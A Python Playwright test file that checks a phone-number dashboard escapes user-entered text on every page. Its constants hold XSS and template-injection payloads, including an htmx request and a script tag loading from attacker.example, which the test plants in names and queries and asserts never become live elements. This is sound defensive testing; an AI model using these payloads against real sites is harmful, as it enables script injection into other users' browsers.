"""What somebody has typed in Close stays text on every page: it opens no dialog, asks nobody, breaks no policy."""

from playwright.sync_api import expect

from dashboard.models import Group, Member
from dashboard.services import sync
from tests.browser.hands import open_editor, open_list, rows_of

MARKUP = '"><img src=x onerror=alert(1)>'
REQUEST = '<b hx-get="http://attacker.example/" hx-trigger="load" data-why="x">label</b>'
CODE = "{{ 7|add:7 }}{% now 'Y' %}<script src=//attacker.example/x.js></script>"
FORMULA = "javascript:alert(1)"


def test_it_is_shown_as_text_on_every_page(visit, ops, nobody, close, watch):
    watch.expect("status of 409")
    nobody.first_name, nobody.last_name = MARKUP, REQUEST[:140]
    nobody.save()
    page = visit(ops)
    first, second, third = rows_of(page)[:3]
    close.change_as_somebody_else(first.id, label=MARKUP)
    close.change_as_somebody_else(second.id, label=REQUEST, voicemail_greeting_url=FORMULA)
    close.change_as_somebody_else(third.id, label=CODE, forward_to=MARKUP)
    for user in close.organisation.users.values():
        user["last_name"] = MARKUP
    for group in close.organisation.groups.values():
        group["name"] = REQUEST
    sync.sync()
    assert Group.objects.filter(name=REQUEST).exists()
    assert Member.objects.filter(name__contains="onerror").exists()

    open_list(page)
    expect(first.button("label")).to_have_text(MARKUP)
    expect(second.button("label")).to_have_text(REQUEST)
    expect(third.button("label")).to_have_text(CODE)
    assert second.row.get_by_role("link", name="Play greeting").count() == 0
    for name in ("team", "member"):
        page.locator(f"#chip-{name}").click()
        expect(page.locator(".dropdown-menu.show input").first).to_be_visible()
        page.keyboard.press("Escape")
    page.locator("#q").fill(MARKUP)
    expect(page.locator("#count")).to_contain_text(" of 40")
    page.locator("#q").fill("")
    expect(page.locator("#count")).to_have_text("40")

    expect(open_editor(page, first)).to_have_value(MARKUP)
    first.field("label").fill(MARKUP + REQUEST)
    close.change_as_somebody_else(first.id, label=REQUEST + MARKUP)
    first.field("label").press("Enter")
    expect(first.cell("label").locator("dd").last).to_have_text(REQUEST + MARKUP)
    first.cell("label").get_by_role("button", name="Use mine").click()
    expect(first.button("label")).to_have_text(MARKUP + REQUEST)

    for row in (first, second, third):
        with page.expect_response("**/refresh/"):
            page.goto(f"/numbers/{row.id}/")
        page.locator("#raw").click()
        expect(page.locator("#number-history")).to_contain_text("from")
    page.goto("/changes/")
    expect(page.locator("#changes-found")).to_contain_text(MARKUP)
    page.get_by_text("Compare").first.click()
    page.goto("/people/")
    expect(page.locator(f"#person-{nobody.pk}")).to_contain_text(MARKUP)
    page.locator(f"#person-{nobody.pk}-edit").click()
    expect(page.locator(f"#person-{nobody.pk}-role")).to_be_focused()
    page.goto("/numbers/?country=US")
    page.locator("#save-view").click()
    page.get_by_label("Name of the view").fill(MARKUP)
    page.keyboard.press("Enter")
    expect(page.locator("#views")).to_contain_text(MARKUP)
    page.goto("/views/")
    expect(page.locator("input[name=name]")).to_have_value(MARKUP)
    page.goto(f"/numbers/?q={MARKUP}&sort={MARKUP}&team={MARKUP}")
    expect(page.locator("#notes")).to_be_visible()
    assert page.locator("img, [hx-get*=attacker], script[src*=attacker]").count() == 0
